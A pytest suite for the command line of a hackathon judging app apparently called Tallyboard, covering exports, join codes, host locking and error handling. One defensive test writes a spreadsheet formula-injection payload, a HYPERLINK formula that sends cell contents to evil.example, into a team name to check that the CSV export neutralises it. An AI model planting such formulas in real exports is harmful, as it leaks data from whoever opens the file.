"""Tests for the command line: export, codes and demo, and their errors on bad input."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import unicodedata
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from storage.demo import seed_demo
from storage.replica import Replica

ROOT = Path(__file__).resolve().parents[1]


def run_cli(*args: str) -> subprocess.CompletedProcess[str]:
    """Run `python main.py ARGS` as a user would, in a separate process."""
    return subprocess.run(
        [sys.executable, str(ROOT / "main.py"), *args],
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        check=False,
    )


@pytest.fixture
def demo_db(tmp_path: Path) -> Path:
    """A host database with the demo event and two final sheets of one judge."""
    path = tmp_path / "host.db"
    host = Replica.open(path)
    seed_demo(host)
    judge = Replica.open(tmp_path / "judge.db")
    host.admin(
        "device.put",
        {
            "device": judge.device_id,
            "pubkey": judge.key.public_b64,
            "role": "judge",
            "subject": "judge-ada",
            "name": "",
        },
    )
    for team, scores in (("team-aurora", (85, 90, 88)), ("team-basalt", (70, 80, 90))):
        body = {
            "team": team,
            "scores": dict(zip(("innovation", "design", "execution"), scores, strict=True)),
            "comment": "solid",
            "final": True,
        }
        outcome = host.submit([judge.make("sheet.save", body, "judge-ada").to_wire()])
        assert outcome[0].accepted
    host.close()
    judge.close()
    return path


def test_export_json_holds_the_documented_sections_and_no_secrets(demo_db: Path) -> None:
    result = run_cli("export", "--db", str(demo_db), "--format", "json")
    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout)
    assert {"event", "criteria", "teams", "judges", "sheets", "leaderboard"} <= set(data)
    assert data["event"]["name"] == "Harbour Hack 2026"
    event_criteria = [c for c in data["criteria"] if "prize" not in c]
    assert [c["name"] for c in event_criteria] == ["Innovation", "Design", "Execution"]
    # The demo has two prizes and a finals round: the export holds every board (issue 11).
    assert [(b["round"], b["prize"]) for b in data["boards"]] == [
        ("main", None),
        ("main", "prize-ai"),
        ("main", "prize-open-data"),
        ("finals", None),
        ("finals", "prize-ai"),
        ("finals", "prize-open-data"),
    ]
    assert {"id", "name", "weight", "min", "max"} <= set(data["criteria"][0])
    assert {"id", "name"} <= set(data["teams"][0])
    assert set(data["judges"][0]) == {"id", "name", "conflicts"}
    assert data["leaderboard"][0] == {
        "rank": 1,
        "team_id": "team-aurora",
        "team_name": "Aurora",
        "total_score": 87.67,
        "judge_count": 1,
    }
    assert data["leaderboard"][1]["total_score"] == 80.0
    sheet = data["sheets"][0]
    assert sheet == {
        "judge": "judge-ada",
        "team": "team-aurora",
        "comment": "solid",
        "final": True,
        "scores": {"innovation": 85, "design": 90, "execution": 88},
    }
    host = Replica.open(demo_db)
    secrets = [c["code"] for c in host.join_codes()] + [host.setting("key") or "?"]
    host.close()
    for secret in secrets:
        assert secret not in result.stdout
        assert secret.replace("-", "") not in result.stdout


def test_export_csv_is_the_results_table(demo_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "results.csv"
    result = run_cli("export", "--db", str(demo_db), "--format", "csv", "--output", str(out))
    assert result.returncode == 0, result.stderr
    every = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    # One row per team per board (issue 11): the first round's main board is today's table.
    rows = [r for r in every if r["round"] == "main" and r["prize"] == ""]
    assert len(rows) == 8
    assert {r["prize"] for r in every} == {"", "prize-ai", "prize-open-data"}
    assert rows[0]["rank"] == "1"
    assert rows[0]["team"] == "Aurora"
    assert rows[0]["total_score"] == "87.67"
    assert rows[0]["Innovation (mean)"] == "85.00"
    assert rows[-1]["rank"] == ""  # teams not yet scored are listed, unranked


def test_codes_lists_every_judge_team_and_the_display(demo_db: Path) -> None:
    result = run_cli("codes", "--db", str(demo_db))
    assert result.returncode == 0, result.stderr
    codes = json.loads(result.stdout)
    roles = [c["role"] for c in codes]
    assert roles.count("judge") == 4
    assert roles.count("team") == 8
    assert roles.count("display") == 1
    assert all(set(c) == {"role", "id", "name", "code"} for c in codes)
    assert all(len(c["code"]) == 9 and c["code"][4] == "-" for c in codes)


def test_codes_are_readable_while_the_host_writes(demo_db: Path) -> None:
    host = Replica.open(demo_db)
    host.db.execute_sql("BEGIN IMMEDIATE")
    host.db.execute_sql("INSERT INTO meta (key, value) VALUES ('busy', 'yes')")
    try:
        result = run_cli("codes", "--db", str(demo_db))
    finally:
        host.db.execute_sql("ROLLBACK")
        host.close()
    assert result.returncode == 0, result.stderr
    assert len(json.loads(result.stdout)) == 13


def test_demo_seeds_once(tmp_path: Path) -> None:
    db = tmp_path / "demo.db"
    first = run_cli("demo", "--print", "--db", str(db))
    assert first.returncode == 0, first.stderr
    assert "seeded now" in first.stdout
    ops_before = Replica.open(db)
    count = ops_before.vv()[ops_before.device_id]
    ops_before.close()
    second = run_cli("demo", "--print", "--db", str(db))
    assert "already seeded" in second.stdout
    after = Replica.open(db)
    assert after.vv()[after.device_id] == count
    after.close()


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize(
    ("setup", "args", "message"),
    [
        ("missing", ("export", "--format", "json"), "there is no database"),
        ("garbage", ("export", "--format", "json"), "not a Tallyboard database"),
        ("truncated", ("codes",), "damaged"),
        ("good", ("export", "--format", "xml"), "invalid choice"),
        ("good", ("export",), "required"),
        ("good", ("frobnicate",), "invalid choice"),
    ],
)
def test_bad_input_fails_with_one_clear_line_and_leaves_the_database_alone(
    demo_db: Path, tmp_path: Path, setup: str, args: tuple[str, ...], message: str
) -> None:
    db = {"missing": tmp_path / "absent.db", "good": demo_db}.get(setup, tmp_path / "bad.db")
    if setup == "garbage":
        db.write_text("not a database at all\n")
    elif setup == "truncated":
        db.write_bytes(demo_db.read_bytes()[: 1024 + 100])
    before = _digest(db) if db.exists() else None
    full = [args[0], *(["--db", str(db)] if args[0] != "frobnicate" else []), *args[1:]]
    result = run_cli(*full)
    assert result.returncode != 0
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert message in lines[0]
    assert "Traceback" not in result.stderr
    assert (_digest(db) if db.exists() else None) == before


@pytest.mark.parametrize("mode", ["judge", "team", "display"])
def test_a_window_mode_without_a_screen_says_so_in_one_line(mode: str) -> None:
    env = {
        k: v
        for k, v in os.environ.items()
        if k not in ("DISPLAY", "WAYLAND_DISPLAY", "QT_QPA_PLATFORM")
    }
    result = subprocess.run(
        [sys.executable, str(ROOT / "main.py"), mode],
        capture_output=True,
        text=True,
        timeout=60,
        env={**env, "PYTHONPATH": str(ROOT)},
        check=False,
    )
    assert result.returncode == 1
    assert result.stderr.count("\n") == 1
    assert "needs a screen" in result.stderr


def test_the_demo_without_a_screen_runs_the_headless_host(tmp_path: Path) -> None:
    """The README's first command on a machine with no screen: a headless demo host."""
    env = {k: v for k, v in os.environ.items() if k not in ("DISPLAY", "WAYLAND_DISPLAY")}
    env.pop("QT_QPA_PLATFORM", None)
    env |= {"PYTHONPATH": str(ROOT), "TALLYBOARD_HOME": str(tmp_path)}
    process = subprocess.Popen(
        [sys.executable, str(ROOT / "main.py"), "demo"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
    )
    try:
        assert process.stdout is not None
        banner = []
        for line in process.stdout:
            banner.append(line)
            if line.startswith("  join codes"):
                break
        assert any("wss://127.0.0.1:8765/sync" in line for line in banner), banner
        assert (tmp_path / "demo.db").exists()
    finally:
        process.send_signal(signal.SIGTERM)
        _, err = process.communicate(timeout=20)
    assert process.returncode == 0, err
    assert "no screen here" in err
    assert "Traceback" not in err


def test_rehearse_refuses_a_fingerprint_that_is_not_64_hex_digits(tmp_path: Path) -> None:
    codes = tmp_path / "codes.json"
    codes.write_text('[{"role": "judge", "id": "judge-ada", "code": "ABCD-EFGH"}]')
    data = tmp_path / "judges"
    result = run_cli("rehearse", "--codes", str(codes), "--data", str(data), "--fingerprint", "ab")
    assert result.returncode == 2
    assert "a fingerprint is 64 hex digits" in result.stderr.strip().splitlines()[-1]
    assert not data.exists()  # refused before anything ran


def test_export_csv_neutralises_names_that_start_like_formulas(tmp_path: Path) -> None:
    """Issue 15 item 9: `=HYPERLINK(...)` in a team name must not become a live formula."""
    db = tmp_path / "host.db"
    host = Replica.open(db)
    seed_demo(host)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
    host.admin("team.put", {"id": "team-aurora", "name": formula, "location": "@SUM(1+1)*cmd"})
    host.admin("team.put", {"id": "-1-1", "name": "+Mallory", "location": "-Hall"})
    criterion = next(c for c in host.state.criteria() if c["id"] == "design")
    host.admin("criterion.put", {**criterion, "name": "=1+1"})
    host.close()
    result = run_cli("export", "--db", str(db), "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    assert "'=1+1 (mean)" in rows[0]
    assert ["'-1-1", "'+Mallory", "'-Hall"] in [row[1:4] for row in rows]
    assert ["team-aurora", "'" + formula, "'@SUM(1+1)*cmd"] in [row[1:4] for row in rows]


# --- one host per database, and databases it cannot write (issue 15 items 10 and 11) -----------


def start_host(db: Path, *extra: str, user: int | None = None) -> subprocess.Popen[str]:
    """Start `main.py host --headless` on loopback, any free port, no mDNS, plain ws://
    (as `user`, through setpriv, when given)."""
    as_user = [] if user is None else ["setpriv", f"--reuid={user}", f"--regid={user}"]
    command = [sys.executable, str(ROOT / "main.py"), "host", "--headless", "--db", str(db)]
    loopback = ["--insecure", "--no-mdns", "--bind", "127.0.0.1", "--port", "0"]
    return subprocess.Popen(
        [*as_user, *(["--clear-groups"] if as_user else []), *command, *loopback, *extra],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT), "PYTHONDONTWRITEBYTECODE": "1"},
    )


def banner(process: subprocess.Popen[str]) -> list[str]:
    """Read the host's banner up to its last line (or to its end, if it exits first)."""
    assert process.stdout is not None
    lines = []
    for line in process.stdout:
        lines.append(line)
        if line.startswith("  join codes"):
            break
    return lines


def stop(process: subprocess.Popen[str], sig: int = signal.SIGTERM) -> str:
    """Stop a host process and return its stderr."""
    process.send_signal(sig)
    _, err = process.communicate(timeout=20)
    return err


def pair_with_display_code(db: Path, url: str) -> dict[str, object]:
    """Pair a new display with a raw websockets hello; return the host's first answer."""
    from websockets.sync.client import connect  # noqa: PLC0415

    from storage.signing import DeviceKey  # noqa: PLC0415

    codes = json.loads(run_cli("codes", "--db", str(db)).stdout)
    code = next(c["code"] for c in codes if c["role"] == "display")
    hello = {
        "type": "hello",
        "protocol": 1,
        "device": str(uuid.uuid4()),
        "code": code,
        "pubkey": DeviceKey.generate().public_b64,
        "vv": {},
    }
    with connect(url, open_timeout=10) as ws:
        ws.send(json.dumps(hello))
        answer: dict[str, object] = json.loads(ws.recv(timeout=10))
    return answer


def _url(lines: list[str]) -> str:
    return next(line.split()[-1] for line in lines if line.strip().startswith("listening"))


def test_a_second_host_on_one_database_is_refused_and_the_lock_dies_with_the_first(
    demo_db: Path,
) -> None:
    first = start_host(demo_db)
    try:
        assert any("listening" in line for line in banner(first))
        second = start_host(demo_db)
        out, err = second.communicate(timeout=30)
        assert second.returncode != 0
        assert err.strip().count("\n") == 0, err
        assert "in use by another Tallyboard" in err
        assert str(first.pid) in err
        assert "Traceback" not in err
        assert "listening" not in out
        assert first.poll() is None  # the first host is unharmed and still pairs devices
    finally:
        first.send_signal(signal.SIGKILL)
        first.communicate(timeout=20)
    # SIGKILL: nothing ran to release the lock, yet the OS did; a restart serves.
    again = start_host(demo_db)
    try:
        url = _url(banner(again))
        assert pair_with_display_code(demo_db, url)["type"] == "welcome"
    finally:
        err = stop(again)
    assert again.returncode == 0, err


@pytest.mark.parametrize("mode", ["host", "judge", "team", "display"])
def test_a_window_on_a_database_another_process_holds_refuses_in_one_line(
    demo_db: Path, mode: str
) -> None:
    holder = start_host(demo_db)
    try:
        lines = banner(holder)
        result = subprocess.run(
            [sys.executable, str(ROOT / "main.py"), mode, "--db", str(demo_db)],
            capture_output=True,
            text=True,
            timeout=30,
            env={**os.environ, "PYTHONPATH": str(ROOT), "QT_QPA_PLATFORM": "offscreen"},
            check=False,
        )
        assert result.returncode != 0
        assert result.stderr.strip().count("\n") == 0, result.stderr
        assert "in use by another Tallyboard" in result.stderr
        assert pair_with_display_code(demo_db, _url(lines))["type"] == "welcome"
    finally:
        err = stop(holder)
    assert holder.returncode == 0, err


NOBODY = 65534


@pytest.fixture
def shared_dir() -> Iterator[Path]:
    """A folder that another user (nobody, when the tests run as root) can use."""
    folder = Path(tempfile.mkdtemp(prefix="tallyboard-ro-"))
    folder.chmod(0o755)
    try:
        yield folder
    finally:
        for path in [folder, *folder.rglob("*")]:
            path.chmod(0o755 if path.is_dir() else 0o644)
        shutil.rmtree(folder)


@pytest.mark.parametrize(
    ("read_only", "history"),
    [
        ("file", "served"),
        ("file", "never served"),
        ("folder", "served"),
        ("folder", "never served"),
        ("folder", "absent"),
    ],
)
def test_a_host_on_a_database_it_cannot_write_refuses_in_one_line(
    demo_db: Path, shared_dir: Path, read_only: str, history: str
) -> None:
    """Issue 15 item 10: before, a served database started, then closed each pairing 1011."""
    db = shared_dir / "event" / "host.db"
    db.parent.mkdir()
    if history == "served":
        shutil.copy(demo_db, db)
        host = start_host(db)
        banner(host)
        stop(host)
    elif history == "never served":
        Replica.open(db).close()  # made by a tool, never opened by a host
    user = NOBODY if os.geteuid() == 0 else None  # root writes read-only files anyway
    for path in [db.parent, *db.parent.iterdir()]:
        if user is not None:
            os.chown(path, user, user)
    if read_only == "file":
        db.chmod(0o444)
        db.parent.chmod(0o777)
    else:
        db.parent.chmod(0o555)
    # The database loses nothing (SQLite may add its -shm beside a read-only file; the lock
    # file holds the pid of whoever tried last).
    saved = [p for p in db.parent.iterdir() if not p.name.endswith((".lock", "-shm"))]
    before = {p.name: _digest(p) for p in saved}
    host = start_host(db, user=user)
    out, err = host.communicate(timeout=30)
    assert host.returncode != 0
    assert err.strip().count("\n") == 0, err
    assert "read-only" in err, err
    assert "Traceback" not in err
    assert "listening" not in out
    assert {p.name: _digest(p) for p in saved} == before
    assert ("folder" in err) == (read_only == "folder"), err  # it says which to fix
    assert db.exists() == (history != "absent")


def _free_port() -> int:
    import socket  # noqa: PLC0415

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
    return port


@pytest.mark.parametrize("screen", ["offscreen", "none"])
def test_the_demo_takes_port_and_no_mdns_like_host(tmp_path: Path, screen: str) -> None:
    """`demo --port P --no-mdns` serves on P and advertises nothing, with windows or without."""
    import socket  # noqa: PLC0415
    import time  # noqa: PLC0415

    port = _free_port()
    env = {k: v for k, v in os.environ.items() if k not in ("DISPLAY", "WAYLAND_DISPLAY")}
    env.pop("QT_QPA_PLATFORM", None)
    if screen == "offscreen":
        env["QT_QPA_PLATFORM"] = "offscreen"
    env |= {"PYTHONPATH": str(ROOT), "TALLYBOARD_HOME": str(tmp_path)}
    env |= {"XDG_CONFIG_HOME": str(tmp_path / "config")}
    process = subprocess.Popen(
        [sys.executable, str(ROOT / "main.py"), "demo", "--port", str(port), "--no-mdns"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
    )
    try:
        listening = False
        deadline = time.monotonic() + 60
        while not listening and process.poll() is None and time.monotonic() < deadline:
            with socket.socket() as client:
                listening = client.connect_ex(("127.0.0.1", port)) == 0
            time.sleep(0.2)
        assert listening, f"nothing listens on {port}"
    finally:
        process.send_signal(signal.SIGTERM)
        _, err = process.communicate(timeout=20)
    assert "Traceback" not in err
    assert "advertising" not in err  # discovery logs each advertisement it makes


def test_version_prints_the_version_help_about_shows() -> None:
    from desktop.about import version  # noqa: PLC0415

    result = run_cli("--version")
    assert result.returncode == 0, result.stderr
    assert result.stdout == f"tallyboard {version()}\n"


def run_unseen(*args: str) -> subprocess.CompletedProcess[str]:
    """Run `python main.py ARGS` with no screen at all: no DISPLAY and no Qt platform set."""
    env = {
        k: v
        for k, v in os.environ.items()
        if k not in ("DISPLAY", "WAYLAND_DISPLAY", "QT_QPA_PLATFORM")
    }
    return subprocess.run(
        [sys.executable, str(ROOT / "main.py"), *args],
        capture_output=True,
        text=True,
        timeout=60,
        env={**env, "PYTHONPATH": str(ROOT)},
        check=False,
    )


needs_poppler = pytest.mark.skipif(
    shutil.which("pdftotext") is None, reason="needs poppler-utils: .ci/bootstrap installs it"
)


@needs_poppler
@pytest.mark.parametrize(
    ("what", "expected"),
    [
        ("results", "1 Aurora 87.67 1 85.00 90.00 88.00"),  # (85 + 90 + 88) / 3
        ("feedback", "Sheet 1 85 90 88 87.67"),
        ("certificates", "First place"),
        ("sheets", "Innovation 0 to 100, step 1 ×1"),
    ],
)
def test_export_pdf_writes_each_document_without_a_screen(
    demo_db: Path, tmp_path: Path, what: str, expected: str
) -> None:
    out = tmp_path / f"{what}.pdf"
    result = run_unseen(
        "export", "--db", str(demo_db), "--format", "pdf", "--what", what, "--out", str(out)
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("wrote ")
    assert str(out) in result.stdout
    text = subprocess.run(
        ["pdftotext", "-layout", str(out), "-"], capture_output=True, text=True, check=True
    ).stdout
    lines = [" ".join(line.split()) for line in text.replace("ﬁ", "fi").splitlines()]
    assert expected in lines
    assert "Harbour Hack 2026" in text


@needs_poppler
def test_export_pdf_speaks_the_language_asked_for(demo_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "results.pdf"
    args = ("--format", "pdf", "--what", "results", "--out", str(out), "--lang", "es")
    result = run_unseen("export", "--db", str(demo_db), *args)
    assert result.returncode == 0, result.stderr
    text = subprocess.run(
        ["pdftotext", str(out), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "Resultados" in text
    # The demo event has prizes: a board a page, each titled in the language asked for.
    assert re.search(r"Página 1 de \d+", text), text
    assert "Clasificación general" in unicodedata.normalize("NFKC", text)  # undo the "ﬁ"
    assert "Overall results" not in text


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("--format", "pdf", "--out", "x.pdf"), "--format pdf needs --what"),
        (("--format", "pdf", "--what", "results"), "needs --out FILE"),
        (("--format", "csv", "--what", "results"), "goes with --format pdf"),
        (("--format", "pdf", "--what", "menus", "--out", "x.pdf"), "invalid choice"),
        (("--format", "pdf", "--what", "results", "--out", "/no/such/dir/x.pdf"), "cannot write"),
    ],
)
def test_export_pdf_refuses_bad_arguments_in_one_line(
    demo_db: Path, tmp_path: Path, args: tuple[str, ...], message: str
) -> None:
    result = run_unseen("export", "--db", str(demo_db), *args)
    assert result.returncode != 0
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert message in lines[0]
    assert not (tmp_path / "x.pdf").exists()


def test_export_pdf_of_an_event_with_nothing_to_print_says_so_and_keeps_the_old_file(
    tmp_path: Path,
) -> None:
    db = tmp_path / "empty.db"
    host = Replica.open(db)
    seed_demo(host)  # criteria, teams and judges, but no sheet yet
    host.close()
    out = tmp_path / "results.pdf"
    out.write_bytes(b"last night's results")
    result = run_unseen(
        "export", "--db", str(db), "--format", "pdf", "--what", "results", "--out", str(out)
    )
    assert result.returncode == 1
    assert "no team has a final sheet yet" in result.stderr
    assert out.read_bytes() == b"last night's results"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["empty.db", "results.pdf"]


def test_the_host_prints_its_public_page_beside_the_sync_address_and_serves_it(
    demo_db: Path,
) -> None:
    import urllib.request  # noqa: PLC0415

    port = _free_port()
    host = start_host(demo_db, "--web-port", str(port))
    try:
        lines = banner(host)
        pages = [line.split() for line in lines if line.strip().startswith("public page")]
        assert pages == [
            [
                "public",
                "page",
                f"http://127.0.0.1:{port}/",
                "(team",
                "page:",
                f"http://127.0.0.1:{port}/team)",
            ]
        ]
        assert (
            lines.index(next(line for line in lines if "public page" in line)) == 3
        )  # after listening
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        with opener.open(f"http://127.0.0.1:{port}/", timeout=10) as answer:
            assert answer.headers["Content-Type"] == "text/html; charset=utf-8"
            assert b"tallyboard.js" in answer.read()
    finally:
        stop(host)
    for off in (["--no-web"], ["--web-port", "0"]):
        host = start_host(demo_db, *off)
        try:
            assert not [line for line in banner(host) if "public page" in line]
        finally:
            stop(host)


def test_event_load_then_dump_gives_the_file_back(tmp_path: Path) -> None:
    db = tmp_path / "host.db"
    toml = tmp_path / "event.toml"
    toml.write_text(
        '[event]\nname = "Expo night"\ntie_break = ["#sheets"]\n\n'
        '[[criteria]]\nid = "design"\nname = "Design"\nweight = 1\nmin = 0\nmax = 10\nstep = 1\n\n'
        '[[prizes]]\nid = "ai"\nname = "Best use of AI"\neligibility = "opt_in"\n\n'
        '[[teams]]\nid = "t1"\nname = "Aurora"\nprizes = ["ai"]\n',
        encoding="utf-8",
    )
    loaded = run_cli("event", "--db", str(db), "--load", str(toml))
    assert loaded.returncode == 0, loaded.stderr
    dumped = run_cli("event", "--db", str(db), "--dump", "--format", "toml")
    assert dumped.returncode == 0, dumped.stderr
    assert 'name = "Expo night"' in dumped.stdout
    again = tmp_path / "again.toml"
    again.write_text(dumped.stdout, encoding="utf-8")
    other = tmp_path / "other.db"
    assert run_cli("event", "--db", str(other), "--load", str(again)).returncode == 0
    assert (
        run_cli("event", "--db", str(other), "--dump", "--format", "toml").stdout == dumped.stdout
    )
    as_json = run_cli("event", "--db", str(db), "--dump")
    assert json.loads(as_json.stdout)["teams"] == [
        {"id": "t1", "name": "Aurora", "location": "", "prizes": ["ai"]}
    ]


def test_event_load_of_a_bad_file_lists_its_problems_and_changes_nothing(tmp_path: Path) -> None:
    db = tmp_path / "host.db"
    good = tmp_path / "good.json"
    good.write_text(json.dumps({"event": {"name": "Kept"}}), encoding="utf-8")
    assert run_cli("event", "--db", str(db), "--load", str(good)).returncode == 0
    bad = tmp_path / "bad.json"
    bad.write_text(
        json.dumps({"event": {"name": "Lost"}, "teams": [{"id": "t 1", "name": ""}, 5]}),
        encoding="utf-8",
    )
    result = run_cli("event", "--db", str(db), "--load", str(bad))
    assert result.returncode == 1
    assert "nothing changed" in result.stderr
    assert "teams[0]: 'id' must be an id" in result.stderr
    assert "teams[1]: must be an object" in result.stderr
    dumped = run_cli("event", "--db", str(db), "--dump")
    assert json.loads(dumped.stdout)["event"]["name"] == "Kept"


@pytest.mark.xfail(
    strict=True,
    reason="neither `event --load` nor the headless host issues join codes (only the console"
    " does, as it adds each judge): a loaded event run headless has no code a judge can join with",
)
def test_a_loaded_event_has_a_join_code_for_each_judge(tmp_path: Path) -> None:
    db, event = tmp_path / "host.db", tmp_path / "event.json"
    event.write_text(json.dumps({"judges": [{"id": "j1", "name": "Ada"}]}), encoding="utf-8")
    assert run_cli("event", "--db", str(db), "--load", str(event)).returncode == 0
    listed = run_cli("codes", "--db", str(db))
    assert listed.returncode == 0, listed.stderr
    assert [c["id"] for c in json.loads(listed.stdout) if c["role"] == "judge"] == ["j1"]
